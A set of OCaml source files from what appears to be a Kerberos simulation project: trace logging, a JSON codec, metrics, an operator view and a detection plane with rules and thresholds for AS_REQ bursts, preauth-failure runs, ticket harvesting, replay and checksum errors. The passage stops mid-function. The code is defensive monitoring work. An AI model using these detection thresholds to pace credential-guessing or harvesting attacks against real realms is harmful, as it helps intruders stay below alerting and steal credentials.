  if Span.is_open span then begin
    let time = match time with Some x -> x | None -> now t in
    if not t.lightweight then
      Trace.event t.trace ~time ~severity:Trace.Warn ~component:span.Span.component
        ~kind:"span.abandoned"
        [ ("span", string_of_int span.Span.id); ("name", span.Span.name) ];
    span_finish t ~time ~outcome:"abandoned" span
  end

let with_context t span f =
  t.context <- span :: t.context;
  Fun.protect
    ~finally:(fun () ->
      match t.context with
      | s :: rest when s == span -> t.context <- rest
      | _ -> () (* unbalanced pops are a bug, but don't mask [f]'s result *))
    f

let open_spans t =
  Hashtbl.fold (fun _ s acc -> s :: acc) t.open_table []
  |> List.sort (fun (a : Span.t) b -> compare a.Span.id b.Span.id)

let open_span_count t = Hashtbl.length t.open_table

let abandon_open_spans t ?time () =
  let spans = open_spans t in
  List.iter (fun s -> span_abandon t ?time s) spans;
  List.length spans

(* --- dumps --------------------------------------------------------- *)

let trace_jsonl t = Trace.to_jsonl t.trace
let metrics_json t = Metrics.to_json t.metrics
let metrics_text t = Metrics.to_text t.metrics

(* --- the shared default -------------------------------------------- *)

(* Components accept [?telemetry] and fall back to this process-wide
   collector, so existing call sites observe without plumbing. Harnesses
   that need isolation (determinism tests, per-scenario operator views)
   either pass their own collector or call [fresh_default]. *)

let default_collector = ref None

let default () =
  match !default_collector with
  | Some c -> c
  | None ->
      let c = create () in
      default_collector := Some c;
      c

let set_default c = default_collector := Some c

let fresh_default () =
  let c = create () in
  default_collector := Some c;
  c
