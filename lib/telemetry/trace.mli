(** Structured trace/event log: a bounded ring of events stamped with
    {e simulation} time, severity-filtered at record time, dumped as JSONL
    (one JSON object per line; a leading [trace.truncated] record reports
    ring overflow). *)

type severity = Debug | Info | Warn | Error

val severity_to_string : severity -> string
val severity_of_string : string -> severity option

type event = {
  time : float;
  severity : severity;
  component : string;  (** which subsystem: "net", "kdc", "apserver", … *)
  kind : string;       (** what happened: "span.begin", "replay.hit", … *)
  attrs : (string * string) list;
}

type t

val create : ?capacity:int -> unit -> t
(** Ring capacity defaults to 8192 events.
    @raise Invalid_argument on non-positive capacity. *)

val set_level : t -> severity -> unit
(** Events below this severity are counted but not stored. Default:
    [Debug] (store everything). *)

val level : t -> severity
val record : t -> event -> unit
val event :
  t -> time:float -> ?severity:severity -> component:string -> kind:string ->
  (string * string) list -> unit

val events : t -> event list
(** Chronological (oldest first). *)

val length : t -> int
val dropped : t -> int
val clear : t -> unit

val event_to_json : event -> Json.t
val event_of_json : Json.t -> (event, string) result
val to_jsonl : t -> string
val of_jsonl : string -> (event list, string) result
(** Parse a dump back; the [trace.truncated] marker line, if present, is
    returned as an ordinary event. *)
