(* The structured event log: a bounded ring of {time; component; kind;
   attrs} records stamped with *simulation* time, with severity filtering
   at record time and a JSONL dump. When the ring is full the oldest event
   is dropped and counted — the dump always says how much history it is
   missing. *)

type severity = Debug | Info | Warn | Error

let severity_rank = function Debug -> 0 | Info -> 1 | Warn -> 2 | Error -> 3

let severity_to_string = function
  | Debug -> "debug"
  | Info -> "info"
  | Warn -> "warn"
  | Error -> "error"

let severity_of_string = function
  | "debug" -> Some Debug
  | "info" -> Some Info
  | "warn" -> Some Warn
  | "error" -> Some Error
  | _ -> None

type event = {
  time : float;
  severity : severity;
  component : string;
  kind : string;
  attrs : (string * string) list;
}

type t = {
  capacity : int;
  ring : event Queue.t;
  mutable level : severity;
  mutable dropped : int;    (* overwritten by ring overflow *)
  mutable filtered : int;   (* suppressed below the severity floor *)
}

let create ?(capacity = 8192) () =
  if capacity <= 0 then invalid_arg "Trace.create: capacity must be positive";
  { capacity; ring = Queue.create (); level = Debug; dropped = 0; filtered = 0 }

let set_level t level = t.level <- level
let level t = t.level

let record t ev =
  if severity_rank ev.severity < severity_rank t.level then
    t.filtered <- t.filtered + 1
  else begin
    if Queue.length t.ring >= t.capacity then begin
      ignore (Queue.pop t.ring);
      t.dropped <- t.dropped + 1
    end;
    Queue.push ev t.ring
  end

let event t ~time ?(severity = Info) ~component ~kind attrs =
  record t { time; severity; component; kind; attrs }

let events t = List.of_seq (Queue.to_seq t.ring)
let length t = Queue.length t.ring
let dropped t = t.dropped

let clear t =
  Queue.clear t.ring;
  t.dropped <- 0;
  t.filtered <- 0

let event_to_json ev =
  Json.Obj
    [ ("time", Json.Float ev.time);
      ("severity", Json.Str (severity_to_string ev.severity));
      ("component", Json.Str ev.component);
      ("kind", Json.Str ev.kind);
      ("attrs", Json.Obj (List.map (fun (k, v) -> (k, Json.Str v)) ev.attrs)) ]

let event_of_json j =
  match
    ( Option.bind (Json.member "time" j) Json.to_float,
      Option.bind (Json.member "severity" j) Json.to_str,
      Option.bind (Json.member "component" j) Json.to_str,
      Option.bind (Json.member "kind" j) Json.to_str,
      Json.member "attrs" j )
  with
  | Some time, Some sev, Some component, Some kind, Some (Json.Obj fields) -> (
      match severity_of_string sev with
      | None -> Result.Error ("unknown severity " ^ sev)
      | Some severity ->
          if List.exists (fun (_, v) -> Json.to_str v = None) fields then
            Result.Error "non-string attr value"
          else
            let attrs =
              List.map (fun (k, v) -> (k, Option.get (Json.to_str v))) fields
            in
            Ok { time; severity; component; kind; attrs })
  | _ -> Result.Error "event missing a required field"

let to_jsonl t =
  let b = Buffer.create 1024 in
  if t.dropped > 0 then begin
    Buffer.add_string b
      (Json.to_string
         (Json.Obj
            [ ("time", Json.Float 0.0); ("severity", Json.Str "warn");
              ("component", Json.Str "telemetry");
              ("kind", Json.Str "trace.truncated");
              ("attrs",
               Json.Obj [ ("dropped_events", Json.Str (string_of_int t.dropped)) ]) ]));
    Buffer.add_char b '\n'
  end;
  Queue.iter
    (fun ev ->
      Buffer.add_string b (Json.to_string (event_to_json ev));
      Buffer.add_char b '\n')
    t.ring;
  Buffer.contents b

let of_jsonl s =
  let lines = String.split_on_char '\n' s |> List.filter (fun l -> l <> "") in
  let rec go acc = function
    | [] -> Ok (List.rev acc)
    | line :: rest -> (
        match Json.of_string line with
        | Result.Error e -> Result.Error e
        | Ok j -> (
            match event_of_json j with
            | Result.Error e -> Result.Error e
            | Ok ev -> go (ev :: acc) rest))
  in
  go [] lines
