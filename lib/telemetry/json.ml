(* A minimal JSON value type with a deterministic printer and a strict
   parser. The sealed environment has no JSON library; the exporters need
   byte-stable output (two identical sim runs must dump identical traces),
   so object fields print in the order given and floats print via a single
   canonical format. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

let escape_string b s =
  Buffer.add_char b '"';
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\r' -> Buffer.add_string b "\\r"
      | '\t' -> Buffer.add_string b "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.add_char b '"'

let float_repr f =
  if not (Float.is_finite f) then "null" (* JSON has no spelling for nan/inf *)
  else if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.1f" f
  else Printf.sprintf "%.12g" f

let rec write b = function
  | Null -> Buffer.add_string b "null"
  | Bool true -> Buffer.add_string b "true"
  | Bool false -> Buffer.add_string b "false"
  | Int i -> Buffer.add_string b (string_of_int i)
  | Float f -> Buffer.add_string b (float_repr f)
  | Str s -> escape_string b s
  | List l ->
      Buffer.add_char b '[';
      List.iteri
        (fun i v ->
          if i > 0 then Buffer.add_char b ',';
          write b v)
        l;
      Buffer.add_char b ']'
  | Obj fields ->
      Buffer.add_char b '{';
      List.iteri
        (fun i (k, v) ->
          if i > 0 then Buffer.add_char b ',';
          escape_string b k;
          Buffer.add_char b ':';
          write b v)
        fields;
      Buffer.add_char b '}'

let to_string v =
  let b = Buffer.create 256 in
  write b v;
  Buffer.contents b

(* --- parser ------------------------------------------------------- *)

exception Parse_error of string

type cursor = { src : string; mutable pos : int }

let peek c = if c.pos < String.length c.src then Some c.src.[c.pos] else None

let advance c = c.pos <- c.pos + 1

let fail c msg = raise (Parse_error (Printf.sprintf "%s at offset %d" msg c.pos))

let skip_ws c =
  let rec go () =
    match peek c with
    | Some (' ' | '\t' | '\n' | '\r') ->
        advance c;
        go ()
    | _ -> ()
  in
  go ()

let expect c ch =
  match peek c with
  | Some x when x = ch -> advance c
  | _ -> fail c (Printf.sprintf "expected '%c'" ch)

let literal c word v =
  let n = String.length word in
  if c.pos + n <= String.length c.src && String.sub c.src c.pos n = word then begin
    c.pos <- c.pos + n;
    v
  end
  else fail c ("expected " ^ word)

let parse_string c =
  expect c '"';
  let b = Buffer.create 16 in
  let rec go () =
    match peek c with
    | None -> fail c "unterminated string"
    | Some '"' -> advance c
    | Some '\\' -> (
        advance c;
        match peek c with
        | Some '"' -> advance c; Buffer.add_char b '"'; go ()
        | Some '\\' -> advance c; Buffer.add_char b '\\'; go ()
        | Some '/' -> advance c; Buffer.add_char b '/'; go ()
        | Some 'n' -> advance c; Buffer.add_char b '\n'; go ()
        | Some 'r' -> advance c; Buffer.add_char b '\r'; go ()
        | Some 't' -> advance c; Buffer.add_char b '\t'; go ()
        | Some 'b' -> advance c; Buffer.add_char b '\b'; go ()
        | Some 'f' -> advance c; Buffer.add_char b '\012'; go ()
        | Some 'u' ->
            advance c;
            if c.pos + 4 > String.length c.src then fail c "bad \\u escape";
            let hex = String.sub c.src c.pos 4 in
            c.pos <- c.pos + 4;
            let code =
              try int_of_string ("0x" ^ hex)
              with Failure _ -> fail c "bad \\u escape"
            in
            (* Only the BMP-ASCII escapes the printer emits are decoded. *)
            if code < 0x80 then Buffer.add_char b (Char.chr code)
            else fail c "non-ASCII \\u escape unsupported";
            go ()
        | _ -> fail c "bad escape")
    | Some ch ->
        advance c;
        Buffer.add_char b ch;
        go ()
  in
  go ();
  Buffer.contents b

let parse_number c =
  let start = c.pos in
  let is_num_char ch =
    (ch >= '0' && ch <= '9')
    || ch = '-' || ch = '+' || ch = '.' || ch = 'e' || ch = 'E'
  in
  let rec go () =
    match peek c with Some ch when is_num_char ch -> advance c; go () | _ -> ()
  in
  go ();
  let s = String.sub c.src start (c.pos - start) in
  match int_of_string_opt s with
  | Some i -> Int i
  | None -> (
      match float_of_string_opt s with
      | Some f -> Float f
      | None -> fail c ("bad number " ^ s))

let rec parse_value c =
  skip_ws c;
  match peek c with
  | None -> fail c "unexpected end of input"
  | Some 'n' -> literal c "null" Null
  | Some 't' -> literal c "true" (Bool true)
  | Some 'f' -> literal c "false" (Bool false)
  | Some '"' -> Str (parse_string c)
  | Some '[' ->
      advance c;
      skip_ws c;
      if peek c = Some ']' then begin advance c; List [] end
      else begin
        let rec items acc =
          let v = parse_value c in
          skip_ws c;
          match peek c with
          | Some ',' -> advance c; items (v :: acc)
          | Some ']' -> advance c; List.rev (v :: acc)
          | _ -> fail c "expected ',' or ']'"
        in
        List (items [])
      end
  | Some '{' ->
      advance c;
      skip_ws c;
      if peek c = Some '}' then begin advance c; Obj [] end
      else begin
        let field () =
          skip_ws c;
          let k = parse_string c in
          skip_ws c;
          expect c ':';
          let v = parse_value c in
          (k, v)
        in
        let rec fields acc =
          let f = field () in
          skip_ws c;
          match peek c with
          | Some ',' -> advance c; fields (f :: acc)
          | Some '}' -> advance c; List.rev (f :: acc)
          | _ -> fail c "expected ',' or '}'"
        in
        Obj (fields [])
      end
  | Some _ -> parse_number c

let of_string s =
  let c = { src = s; pos = 0 } in
  match parse_value c with
  | v ->
      skip_ws c;
      if c.pos <> String.length s then Error "trailing garbage after JSON value"
      else Ok v
  | exception Parse_error e -> Error e

(* --- accessors (for tests and schema checks) ----------------------- *)

let member key = function
  | Obj fields -> List.assoc_opt key fields
  | _ -> None

let to_float = function Int i -> Some (float_of_int i) | Float f -> Some f | _ -> None
let to_int = function Int i -> Some i | _ -> None
let to_str = function Str s -> Some s | _ -> None
let to_list = function List l -> Some l | _ -> None
