(* The attack-visibility layer: what a KDC/server operator would have seen.

   The paper's mitigations are detection-shaped — rate-limiting AS requests
   presumes someone is watching per-source request rates; replay caches
   presume replay hits are surfaced. This module aggregates exactly those
   signals: per-source-address AS_REQ rates (with reject/rate-limit
   breakdowns) and replay-cache hits per component, rendered as the
   operator's console next to each experiment's result. *)

type source = {
  mutable req_count : int;
  mutable ok : int;
  mutable preauth_rejected : int;
  mutable rate_limited : int;
  mutable other_rejected : int;
  mutable first : float;
  mutable last : float;
}

(* The suspicion thresholds, configurable per deployment. The defaults
   are the original 1991-grade heuristics an operator could run from
   syslog: a mill hammers the AS port far faster than a human types
   passwords, or trips preauth / the rate limiter repeatedly. *)
type policy = {
  sus_rate_per_min : float;  (* suspicious above this AS_REQ rate *)
  sus_preauth_rejects : int;  (* suspicious above this many preauth rejects *)
  sus_rate_limited : int;  (* suspicious above this many rate-limit hits *)
}

let default_policy =
  { sus_rate_per_min = 30.0; sus_preauth_rejects = 3; sus_rate_limited = 0 }

type t = {
  sources : (string, source) Hashtbl.t;
  replay_hits : (string, int ref) Hashtbl.t;  (* component -> hits *)
  mutable total_as_reqs : int;
  mutable total_replays : int;
  mutable policy : policy;
}

let create ?(policy = default_policy) () =
  { sources = Hashtbl.create 16; replay_hits = Hashtbl.create 4;
    total_as_reqs = 0; total_replays = 0; policy }

let set_policy t p = t.policy <- p
let policy t = t.policy

let clear t =
  Hashtbl.reset t.sources;
  Hashtbl.reset t.replay_hits;
  t.total_as_reqs <- 0;
  t.total_replays <- 0

let source_slot t src =
  match Hashtbl.find_opt t.sources src with
  | Some s -> s
  | None ->
      let s =
        { req_count = 0; ok = 0; preauth_rejected = 0; rate_limited = 0;
          other_rejected = 0; first = infinity; last = neg_infinity }
      in
      Hashtbl.replace t.sources src s;
      s

let record_as_req t ~src ~time ~outcome =
  let s = source_slot t src in
  s.req_count <- s.req_count + 1;
  if time < s.first then s.first <- time;
  if time > s.last then s.last <- time;
  (match outcome with
  | "ok" -> s.ok <- s.ok + 1
  | "preauth-reject" -> s.preauth_rejected <- s.preauth_rejected + 1
  | "rate-limited" -> s.rate_limited <- s.rate_limited + 1
  | _ -> s.other_rejected <- s.other_rejected + 1);
  t.total_as_reqs <- t.total_as_reqs + 1

let record_replay t ~component =
  (match Hashtbl.find_opt t.replay_hits component with
  | Some r -> incr r
  | None -> Hashtbl.replace t.replay_hits component (ref 1));
  t.total_replays <- t.total_replays + 1

let as_req_count t ~src =
  match Hashtbl.find_opt t.sources src with Some s -> s.req_count | None -> 0

let replay_hits t ~component =
  match Hashtbl.find_opt t.replay_hits component with Some r -> !r | None -> 0

let total_replay_hits t = t.total_replays

(* Rate over the source's own active window, in requests/minute; a single
   request reports its count (no window to divide by). *)
let rate_per_min s =
  if s.req_count <= 1 || s.last <= s.first then float_of_int s.req_count
  else float_of_int (s.req_count - 1) /. (s.last -. s.first) *. 60.0

let sorted_sources t =
  Hashtbl.fold (fun src s acc -> (src, s) :: acc) t.sources []
  |> List.sort (fun (sa, a) (sb, b) ->
         match compare b.req_count a.req_count with
         | 0 -> compare sa sb
         | c -> c)

let suspicious_under p s =
  rate_per_min s > p.sus_rate_per_min
  || s.preauth_rejected > p.sus_preauth_rejects
  || s.rate_limited > p.sus_rate_limited

let report t =
  let b = Buffer.create 512 in
  Buffer.add_string b "operator view — KDC AS_REQ sources:\n";
  if Hashtbl.length t.sources = 0 then
    Buffer.add_string b "  (no AS traffic observed)\n"
  else begin
    Printf.bprintf b "  %-18s %6s %6s %8s %8s %8s %10s\n" "source" "reqs" "ok"
      "preauth-" "ratelim" "other-" "req/min";
    List.iter
      (fun (src, s) ->
        Printf.bprintf b "  %-18s %6d %6d %8d %8d %8d %10.1f%s\n" src s.req_count
          s.ok s.preauth_rejected s.rate_limited s.other_rejected (rate_per_min s)
          (if suspicious_under t.policy s then "  <-- suspicious" else ""))
      (sorted_sources t)
  end;
  Printf.bprintf b "replay-cache hits: %d total\n" t.total_replays;
  Hashtbl.fold (fun comp r acc -> (comp, !r) :: acc) t.replay_hits []
  |> List.sort compare
  |> List.iter (fun (comp, n) -> Printf.bprintf b "  %-18s %d\n" comp n);
  Buffer.contents b

let to_json t =
  Json.Obj
    [ ("total_as_reqs", Json.Int t.total_as_reqs);
      ("total_replay_hits", Json.Int t.total_replays);
      ( "sources",
        Json.Obj
          (List.map
             (fun (src, s) ->
               ( src,
                 Json.Obj
                   [ ("reqs", Json.Int s.req_count); ("ok", Json.Int s.ok);
                     ("preauth_rejected", Json.Int s.preauth_rejected);
                     ("rate_limited", Json.Int s.rate_limited);
                     ("other_rejected", Json.Int s.other_rejected);
                     ("rate_per_min", Json.Float (rate_per_min s));
                     ("suspicious", Json.Bool (suspicious_under t.policy s)) ] ))
             (sorted_sources t)) );
      ( "replay_hits",
        Json.Obj
          (Hashtbl.fold (fun comp r acc -> (comp, Json.Int !r) :: acc) t.replay_hits []
          |> List.sort compare) ) ]

(* The per-source flag, exported for tests and harnesses. *)
let suspicious t ~src =
  match Hashtbl.find_opt t.sources src with
  | Some s -> suspicious_under t.policy s
  | None -> false
