(** The metrics registry: named counters, gauges, and fixed-bucket latency
    histograms with O(1) recording and deterministic text/JSON export
    (metrics sort by name; see {!Json} for float canonicalization). *)

type t

type counter
type gauge
type histogram

val create : unit -> t

val counter : t -> string -> counter
(** Get-or-create. @raise Invalid_argument if the name is registered as a
    different kind. *)

val gauge : t -> string -> gauge
val histogram : ?buckets:float array -> t -> string -> histogram
(** [buckets] are strictly increasing upper bounds; an overflow bucket to
    +inf is implicit. Defaults to {!default_latency_buckets}. The buckets
    of an already-registered histogram are kept as-is. *)

val default_latency_buckets : float array
(** 1 ms … 5 s, bracketing the simulator's 5 ms hop latency. *)

val fresh_name : t -> string -> string
(** [base] if unregistered, else [base#2], [base#3], … — for per-instance
    metrics that must not merge (two KDCs for one realm). *)

val incr : counter -> unit
val add : counter -> int -> unit
val value : counter -> int

val set : gauge -> float -> unit
val gauge_value : gauge -> float

val observe : histogram -> float -> unit
val hist_count : histogram -> int
val hist_sum : histogram -> float
val bucket_counts : histogram -> int array
(** Per-bucket counts; last entry is the +inf overflow bucket. *)

val quantile : histogram -> float -> float
(** [quantile h q] estimates the [q]-quantile ([0..1], clamped) by linear
    interpolation inside the bucket the rank falls in, clamped to the
    observed [min]/[max]. The overflow bucket interpolates up to the
    observed maximum, so tail quantiles stay finite. 0 on an empty
    histogram. Exported as [p50]/[p95]/[p99] in {!to_json}/{!to_text}. *)

val histograms : t -> (string * histogram) list
(** Every registered histogram, sorted by name — for reports that
    aggregate over families of metrics (the load plane's per-span
    breakdown) without knowing the names in advance. *)

val to_text : t -> string
val to_json : t -> Json.t
