(** Span data: one timed protocol step between two simulation times.
    Create and close spans through {!Collector.span_begin} /
    {!Collector.span_finish}; this module only exposes the record. *)

type t = {
  id : int;
  name : string;
  component : string;
  parent : int option;  (** enclosing span id, for nesting *)
  start_time : float;
  mutable end_time : float option;
  mutable outcome : string;
      (** "ok" / "preauth-reject" / "replay-detected" / "rate-limited" /
          "bad-checksum" / "abandoned" / … — meaningful once closed *)
  mutable attrs : (string * string) list;
}

val is_open : t -> bool
val duration : t -> float option
val set_attr : t -> string -> string -> unit
val pp : Format.formatter -> t -> unit
