(** Attack visibility: per-source-address AS_REQ rate tracking and
    replay-hit counters — "what the operator would have seen" while an
    experiment's attack ran. Fed by the KDC and AP servers, rendered by
    [bin/experiments] and [bin/attacklab]. *)

type t

(** The suspicion thresholds. A source is flagged when its AS_REQ rate
    exceeds [sus_rate_per_min], its preauth-reject count exceeds
    [sus_preauth_rejects], or its rate-limit hits exceed
    [sus_rate_limited]. *)
type policy = {
  sus_rate_per_min : float;
  sus_preauth_rejects : int;
  sus_rate_limited : int;
}

val default_policy : policy
(** The original 1991-grade heuristics: over 30 AS_REQs/minute, more than
    3 preauth rejects, or any rate-limiter hit. *)

val create : ?policy:policy -> unit -> t
(** Defaults to {!default_policy}. *)

val set_policy : t -> policy -> unit
(** Swap thresholds on a live view; already-recorded traffic is
    re-judged under the new policy (suspicion is computed at read time). *)

val policy : t -> policy

val clear : t -> unit

val record_as_req : t -> src:string -> time:float -> outcome:string -> unit
(** [outcome] uses the span outcome labels: "ok" / "preauth-reject" /
    "rate-limited" / anything else counts as another rejection. *)

val record_replay : t -> component:string -> unit

val as_req_count : t -> src:string -> int
val replay_hits : t -> component:string -> int
val total_replay_hits : t -> int

val suspicious : t -> src:string -> bool
(** Whether a source trips the view's {!policy} (by default the 1991-grade
    heuristics: over 30 AS_REQs/minute, repeated preauth failures, or any
    rate-limiter hit). *)

val report : t -> string
(** Multi-line operator console: per-source request table (rate per
    minute, reject breakdown, a suspicion flag) and replay-hit counts.
    Deterministic ordering. *)

val to_json : t -> Json.t
