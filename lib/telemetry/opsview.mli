(** Attack visibility: per-source-address AS_REQ rate tracking and
    replay-hit counters — "what the operator would have seen" while an
    experiment's attack ran. Fed by the KDC and AP servers, rendered by
    [bin/experiments] and [bin/attacklab]. *)

type t

val create : unit -> t
val clear : t -> unit

val record_as_req : t -> src:string -> time:float -> outcome:string -> unit
(** [outcome] uses the span outcome labels: "ok" / "preauth-reject" /
    "rate-limited" / anything else counts as another rejection. *)

val record_replay : t -> component:string -> unit

val as_req_count : t -> src:string -> int
val replay_hits : t -> component:string -> int
val total_replay_hits : t -> int

val suspicious : t -> src:string -> bool
(** Whether a source trips the operator's 1991-grade heuristics: over 30
    AS_REQs/minute, repeated preauth failures, or any rate-limiter hit. *)

val report : t -> string
(** Multi-line operator console: per-source request table (rate per
    minute, reject breakdown, a suspicion flag) and replay-hit counts.
    Deterministic ordering. *)

val to_json : t -> Json.t
