(* The detection plane. See detect.mli for the model; the short version:
   learn per-subject EWMA rates during a warm-up window, then run cheap
   online rules per event and fold firings into one alert per
   (rule, subject). Everything is driven by the event stream alone — no
   wall clock, no randomness — so identical runs produce identical
   alerts and identical JSON. *)

type policy = {
  warmup : float;
  epoch : float;
  ewma_alpha : float;
  burst_factor : float;
  burst_floor : int;
  preauth_run : int;
  harvest_min_clients : int;
  harvest_max_followups : int;
  replay_min_hits : int;
  checksum_min_hits : int;
  max_lifetime : float;
  expect_addr : bool;
  score_threshold : float;
}

let default_policy =
  { warmup = 45.0; epoch = 30.0; ewma_alpha = 0.3; burst_factor = 4.0;
    burst_floor = 8; preauth_run = 4; harvest_min_clients = 10;
    harvest_max_followups = 2; replay_min_hits = 1; checksum_min_hits = 2;
    max_lifetime = 8.0 *. 3600.0; expect_addr = true; score_threshold = 0.25 }

type alert = {
  al_time : float;
  al_rule : string;
  al_subject : string;
  mutable al_score : float;
  mutable al_count : int;
  al_evidence : string;
}

(* One EWMA rate: requests per [epoch]-second bucket. Rolling is closed
   form over however many epochs elapsed, so a subject silent for an hour
   costs one [**], not 120 loop iterations. *)
type rate = { mutable ep_start : float; mutable ep_count : int; mutable ewma : float }

type src_state = {
  sr : rate;  (* AS_REQ arrivals from this source *)
  mutable consec_preauth : int;
  distinct : (string, unit) Hashtbl.t;  (* client principals asked about *)
  mutable distinct_n : int;
  mutable followups : int;  (* TGS + AP requests from this source *)
  mutable replays : int;
  replay_services : (string, unit) Hashtbl.t;
  mutable replay_services_n : int;
  mutable badaddr : int;
  mutable cksum : int;
}

type t = {
  pol : policy;
  srcs : (string, src_state) Hashtbl.t;
  principals : (string, rate) Hashtbl.t;
  by_key : (string, alert) Hashtbl.t;  (* "rule|subject" -> folded alert *)
  mutable alerts_rev : alert list;
  mutable n_alerts : int;
  mutable t0 : float;  (* time of the first observed event; nan = none yet *)
  mutable observed : int;
  mutable tickets_issued : int;
}

let create ?(policy = default_policy) () =
  { pol = policy; srcs = Hashtbl.create 64; principals = Hashtbl.create 64;
    by_key = Hashtbl.create 16; alerts_rev = []; n_alerts = 0; t0 = nan;
    observed = 0; tickets_issued = 0 }

let policy t = t.pol
let observed t = t.observed
let alert_count t = t.n_alerts
let alerts t = List.rev t.alerts_rev

let armed t time = time -. t.t0 >= t.pol.warmup

(* --- rates ---------------------------------------------------------- *)

let fresh_rate time = { ep_start = time; ep_count = 0; ewma = 0.0 }

let roll pol r now =
  if now >= r.ep_start +. pol.epoch then begin
    let k = int_of_float ((now -. r.ep_start) /. pol.epoch) in
    let a = pol.ewma_alpha in
    let folded = (a *. float_of_int r.ep_count) +. ((1.0 -. a) *. r.ewma) in
    r.ewma <- (if k > 1 then folded *. ((1.0 -. a) ** float_of_int (k - 1)) else folded);
    r.ep_count <- 0;
    r.ep_start <- r.ep_start +. (float_of_int k *. pol.epoch)
  end

let src_state t src =
  match Hashtbl.find_opt t.srcs src with
  | Some s -> s
  | None ->
      let s =
        { sr = fresh_rate t.t0; consec_preauth = 0; distinct = Hashtbl.create 4;
          distinct_n = 0; followups = 0; replays = 0;
          replay_services = Hashtbl.create 2; replay_services_n = 0; badaddr = 0;
          cksum = 0 }
      in
      Hashtbl.replace t.srcs src s;
      s

let principal_rate t name =
  match Hashtbl.find_opt t.principals name with
  | Some r -> r
  | None ->
      let r = fresh_rate t.t0 in
      Hashtbl.replace t.principals name r;
      r

let baseline t ~subject =
  match String.index_opt subject ':' with
  | None -> 0.0
  | Some i -> (
      let kind = String.sub subject 0 i in
      let name = String.sub subject (i + 1) (String.length subject - i - 1) in
      match kind with
      | "src" -> (
          match Hashtbl.find_opt t.srcs name with Some s -> s.sr.ewma | None -> 0.0)
      | "principal" -> (
          match Hashtbl.find_opt t.principals name with Some r -> r.ewma | None -> 0.0)
      | _ -> 0.0)

(* --- alerts --------------------------------------------------------- *)

let raise_alert t ~time ~rule ~subject ~score ~evidence =
  if score >= t.pol.score_threshold then begin
    let key = rule ^ "|" ^ subject in
    match Hashtbl.find_opt t.by_key key with
    | Some a ->
        a.al_count <- a.al_count + 1;
        if score > a.al_score then a.al_score <- score
    | None ->
        let a =
          { al_time = time; al_rule = rule; al_subject = subject;
            al_score = score; al_count = 1; al_evidence = evidence }
        in
        Hashtbl.replace t.by_key key a;
        t.alerts_rev <- a :: t.alerts_rev;
        t.n_alerts <- t.n_alerts + 1
  end

let first_alert t ~subject ~rules =
  let rec go = function
    | [] -> None
    | a :: rest ->
        if a.al_subject = subject && List.mem a.al_rule rules then Some a
        else go rest
  in
  go (alerts t)

(* --- rules ---------------------------------------------------------- *)

let cap1 x = if x > 1.0 then 1.0 else x

let check_burst t ~time ~subject (r : rate) =
  let p = t.pol in
  let base = if r.ewma > 1.0 then r.ewma else 1.0 in
  if r.ep_count >= p.burst_floor && float_of_int r.ep_count > p.burst_factor *. base
  then
    raise_alert t ~time ~rule:"as-burst" ~subject
      ~score:(cap1 (float_of_int r.ep_count /. (2.0 *. p.burst_factor *. base)))
      ~evidence:
        (Printf.sprintf "%d AS_REQs this epoch vs baseline %.2f/epoch" r.ep_count
           r.ewma)

let attr key attrs = List.assoc_opt key attrs
let attr_or key default attrs = Option.value (attr key attrs) ~default

let is_preauth_failure = function
  | "preauth-reject" | "preauth-failed" -> true
  | _ -> false

let on_as_req t (ev : Trace.event) =
  let p = t.pol in
  let src = attr_or "src" "?" ev.attrs in
  let client = attr_or "client" "?" ev.attrs in
  let outcome = attr_or "outcome" "?" ev.attrs in
  let s = src_state t src in
  let pr = principal_rate t client in
  roll p s.sr ev.time;
  roll p pr ev.time;
  s.sr.ep_count <- s.sr.ep_count + 1;
  pr.ep_count <- pr.ep_count + 1;
  if not (Hashtbl.mem s.distinct client) then begin
    Hashtbl.replace s.distinct client ();
    s.distinct_n <- s.distinct_n + 1
  end;
  if is_preauth_failure outcome then s.consec_preauth <- s.consec_preauth + 1
  else if outcome = "ok" then s.consec_preauth <- 0
  else if outcome <> "rate-limited" then s.consec_preauth <- 0;
  if armed t ev.time then begin
    check_burst t ~time:ev.time ~subject:("src:" ^ src) s.sr;
    check_burst t ~time:ev.time ~subject:("principal:" ^ client) pr;
    if s.consec_preauth >= p.preauth_run then
      raise_alert t ~time:ev.time ~rule:"preauth-run" ~subject:("src:" ^ src)
        ~score:(cap1 (float_of_int s.consec_preauth /. float_of_int (2 * p.preauth_run)))
        ~evidence:
          (Printf.sprintf "%d consecutive preauth failures (last target %s)"
             s.consec_preauth client);
    if s.distinct_n >= p.harvest_min_clients && s.followups <= p.harvest_max_followups
    then
      raise_alert t ~time:ev.time ~rule:"harvest" ~subject:("src:" ^ src)
        ~score:
          (cap1
             (float_of_int s.distinct_n /. float_of_int (2 * p.harvest_min_clients)))
        ~evidence:
          (Printf.sprintf "AS_REQs for %d distinct principals, %d follow-ups"
             s.distinct_n s.followups)
  end

let on_followup t (ev : Trace.event) =
  let p = t.pol in
  let src = attr_or "src" "?" ev.attrs in
  let outcome = attr_or "outcome" "?" ev.attrs in
  let service = attr_or "service" ev.component ev.attrs in
  let s = src_state t src in
  s.followups <- s.followups + 1;
  (match outcome with
  | "replay-detected" ->
      s.replays <- s.replays + 1;
      if not (Hashtbl.mem s.replay_services service) then begin
        Hashtbl.replace s.replay_services service ();
        s.replay_services_n <- s.replay_services_n + 1
      end;
      if armed t ev.time && s.replays >= p.replay_min_hits then
        raise_alert t ~time:ev.time ~rule:"replay" ~subject:("src:" ^ src)
          ~score:
            (cap1
               (0.5
               +. (float_of_int s.replays /. float_of_int (2 * p.replay_min_hits) /. 2.0)
               ))
          ~evidence:
            (Printf.sprintf "%d replay-cache hits across %d services" s.replays
               s.replay_services_n)
  | "bad-address" ->
      s.badaddr <- s.badaddr + 1;
      if armed t ev.time then
        raise_alert t ~time:ev.time ~rule:"addr-anomaly" ~subject:("src:" ^ src)
          ~score:0.9
          ~evidence:
            (Printf.sprintf "%d ticket/authenticator address mismatches" s.badaddr)
  | "bad-checksum" | "bad-integrity" ->
      s.cksum <- s.cksum + 1;
      if armed t ev.time && s.cksum >= p.checksum_min_hits then
